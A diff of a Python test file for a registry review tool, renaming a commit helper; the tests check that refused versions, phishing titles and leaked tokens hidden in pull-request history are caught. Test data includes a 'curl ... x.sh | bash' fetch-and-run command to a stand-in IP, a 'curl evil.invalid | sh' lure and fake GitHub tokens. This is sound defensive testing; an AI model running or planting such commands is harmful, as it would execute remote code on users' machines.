@@ -14,24 +14,9 @@ from prereq.core.gitrepo import Repository
 from prereq.index.builder import build_index
 from prereq.registry.validate import validate
 from prereq.review.review import review
-from review_helpers import item, make_pr
+from review_helpers import commit_trees, item, make_pr
 
 CURL = "curl -fsSL http://203.0.113.9/x.sh | bash"
-
-
-def _pr_commits(repo: GitRepo, *trees: dict[str, str | None]) -> list[str]:
-    """Commit each tree of files (relative to registry/, None deletes) on the current branch."""
-    commits = []
-    for number, files in enumerate(trees):
-        for rel, text in files.items():
-            path = repo.root / "registry" / rel
-            if text is None:
-                path.unlink()
-            else:
-                path.parent.mkdir(parents=True, exist_ok=True)
-                path.write_text(text, encoding="utf-8")
-        commits.append(repo.commit(f"pr {number}", date=f"2026-02-0{number + 1}T00:00:00+00:00"))
-    return commits
 
 
 def _base(tmp_path: Path) -> GitRepo:
@@ -49,7 +34,7 @@ def _found(reviewed, rule: str) -> list[tuple[str | None, int | None, str]]:
 def test_a_version_written_then_undone_inside_the_pull_request_is_refused_naming_the_commit(tmp_path: Path) -> None:
     repo = _base(tmp_path)
     restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
-    bump, _ = _pr_commits(
+    bump, _ = commit_trees(
         repo,
         {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)},
         {"prerequisites/nfs.yaml": restored},
@@ -68,7 +53,7 @@ def test_a_version_written_then_undone_inside_the_pull_request_is_refused_naming
 def test_the_cli_exits_1_and_says_where(tmp_path: Path, capsys, monkeypatch) -> None:
     repo = _base(tmp_path)
     restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
-    bump, _ = _pr_commits(
+    bump, _ = commit_trees(
         repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
     )
     monkeypatch.chdir(repo.root)
@@ -82,7 +67,7 @@ def test_the_cli_exits_1_and_says_where(tmp_path: Path, capsys, monkeypatch) -> 
 def test_work_in_progress_commits_of_the_final_version_pass(tmp_path: Path) -> None:
     """An honest pull request: the bump in one commit, its fix in the next, a new item grown over two."""
     repo = _base(tmp_path)
-    _pr_commits(
+    commit_trees(
         repo,
         {
             "prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs --retry"),
@@ -104,7 +89,7 @@ def test_a_version_the_base_published_may_pass_through_as_it_was(tmp_path: Path)
     """A commit that deletes an item and a later one that restores it holds only the base's version."""
     repo = _base(tmp_path)
     restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
-    _pr_commits(repo, {"prerequisites/nfs.yaml": None}, {"prerequisites/nfs.yaml": restored})
+    commit_trees(repo, {"prerequisites/nfs.yaml": None}, {"prerequisites/nfs.yaml": restored})
 
     assert _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209") == []
 
@@ -112,7 +97,7 @@ def test_a_version_the_base_published_may_pass_through_as_it_was(tmp_path: Path)
 def test_a_base_version_brought_back_with_other_content_in_a_commit_is_refused(tmp_path: Path) -> None:
     """Once the final tree holds a later version, the newest commit holding 1.0.2 would publish it."""
     repo = _base(tmp_path)
-    _pr_commits(
+    commit_trees(
         repo,
         {"prerequisites/nfs.yaml": item("nfs", "1.0.2", command=CURL)},
         {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs v3")},
@@ -125,10 +110,10 @@ def test_a_base_version_brought_back_with_other_content_in_a_commit_is_refused(t
 def test_main_merged_into_the_pull_request_is_not_the_pull_requests(tmp_path: Path) -> None:
     """Versions main gained after the branch point came in by a merge: main's own, not refused."""
     repo = _base(tmp_path)
-    _pr_commits(repo, {"prerequisites/new.yaml": item("new")})
+    commit_trees(repo, {"prerequisites/new.yaml": item("new")})
     repo.git("checkout", "-q", "main")
-    _pr_commits(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs v3")})
-    _pr_commits(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.4", command="mount-nfs v4")})
+    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs v3")})
+    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.4", command="mount-nfs v4")})
     repo.git("checkout", "-q", "pr")
     repo.git("merge", "-q", "--no-ff", "-m", "merge main", "main")
 
@@ -144,11 +129,11 @@ def test_an_environment_version_only_a_commit_holds_is_refused(tmp_path: Path) -
         "name: python\nversion: {v}\ntitle: Python\nos: {{name: debian, version: '12'}}\nlanguages: [python]\n"
         "packages: {{python: '3.11.9'}}\nimage: {{uri: 'python:3.11-slim'}}\nowners: [alice]\n"
     )
-    _pr_commits(repo, {"environments/python/1.0.0.yaml": env.format(v="1.0.0")})
+    commit_trees(repo, {"environments/python/1.0.0.yaml": env.format(v="1.0.0")})
     repo.git("checkout", "-q", "main")
     repo.git("merge", "-q", "--ff-only", "pr")
     repo.git("checkout", "-q", "-b", "pr2")
-    _pr_commits(
+    commit_trees(
         repo, {"environments/python/1.1.0.yaml": env.format(v="1.1.0")}, {"environments/python/1.1.0.yaml": None}
     )
 
@@ -161,7 +146,7 @@ def test_an_environment_version_only_a_commit_holds_is_refused(tmp_path: Path) -
 def test_a_credential_added_and_removed_inside_the_pull_request_is_found(tmp_path: Path) -> None:
     repo = _base(tmp_path)
     token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
-    _pr_commits(
+    commit_trees(
         repo,
         {"prerequisites/new.yaml": item("new", command=f"export GH_TOKEN={token}")},
         {"prerequisites/new.yaml": item("new", command="echo ready")},
@@ -181,7 +166,7 @@ def _published(repo: GitRepo) -> dict[str, list[str]]:
 def test_a_merge_commit_publishes_the_merge_result_never_its_branch_commits(tmp_path: Path) -> None:
     repo = _base(tmp_path)
     restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
-    _pr_commits(
+    commit_trees(
         repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
     )
     repo.git("checkout", "-q", "main")
@@ -194,7 +179,7 @@ def test_a_rebase_merge_puts_every_commit_on_main_so_the_review_must_see_them(tm
     """Why PRQ209 exists: fast-forwarded (as a rebase merge does), each commit is a state of main."""
     repo = _base(tmp_path)
     restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
-    _pr_commits(
+    commit_trees(
         repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
     )
     assert _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")
@@ -208,7 +193,7 @@ def test_a_credential_in_a_catalog_file_added_and_removed_inside_the_pull_reques
     repo = _base(tmp_path)
     rights = "rights:\n  - {queue: q1, group: data-team, slots: 2, priority: 0}\n"
     token = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"
-    _pr_commits(repo, {"rights.yaml": f"groups:\n  {token}: [alice]\n" + rights}, {"rights.yaml": rights})
+    commit_trees(repo, {"rights.yaml": f"groups:\n  {token}: [alice]\n" + rights}, {"rights.yaml": rights})
 
     found = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ192")
 
@@ -220,7 +205,7 @@ def test_the_final_version_written_differently_in_another_file_is_refused(tmp_pa
     version leaves the tree: its content would be published under the final version's number."""
     repo = _base(tmp_path)
     final = item("nfs", "1.0.3", command="mount-nfs v3")
-    _pr_commits(
+    commit_trees(
         repo,
         {"prerequisites/nfs.yaml": final},
         {"prerequisites/sub/nfs.yaml": item("nfs", "1.0.3", command=CURL)},
@@ -238,13 +223,13 @@ def test_an_old_version_s_descriptions_cannot_be_rewritten_by_a_commit(tmp_path:
     repo = _base(tmp_path)
     current = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
     repo.git("checkout", "-q", "main")
-    _pr_commits(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs")})
+    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs")})
     newest = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
     repo.git("checkout", "-q", "pr")
     repo.git("merge", "-q", "--ff-only", "main")
     phishing = current.replace("title: nfs test item", 'title: "DEPRECATED: run curl evil.invalid | sh"')
     assert phishing != current
-    _pr_commits(repo, {"prerequisites/nfs.yaml": phishing}, {"prerequisites/nfs.yaml": newest})
+    commit_trees(repo, {"prerequisites/nfs.yaml": phishing}, {"prerequisites/nfs.yaml": newest})
 
     [(_, _, message)] = _found(review(repo.root / "registry", base="main", author="carol"), "PRQ209")
 
@@ -259,7 +244,7 @@ def test_a_credential_any_commit_wrote_into_the_registry_folder_is_found_once(tm
     item held is the history scan's (PRQ192), not said twice."""
     repo = _base(tmp_path)
     owners = (repo.root / "registry/owners.yaml").read_text(encoding="utf-8")
-    first, _ = _pr_commits(
+    first, _ = commit_trees(
         repo,
         {
             "README.md": f"Use the mirror with GH_TOKEN={TOKEN}\n",
@@ -280,7 +265,7 @@ def test_a_credential_any_commit_wrote_into_the_registry_folder_is_found_once(tm
 
 def test_a_credential_left_in_a_file_no_loader_reads_is_found(tmp_path: Path) -> None:
     repo = _base(tmp_path)
-    _pr_commits(repo, {"notes.txt": f"token {TOKEN}\n", "prerequisites/new.yaml": item("new")})
+    commit_trees(repo, {"notes.txt": f"token {TOKEN}\n", "prerequisites/new.yaml": item("new")})
 
     reviewed = review(repo.root / "registry", base="main", author="alice")
 
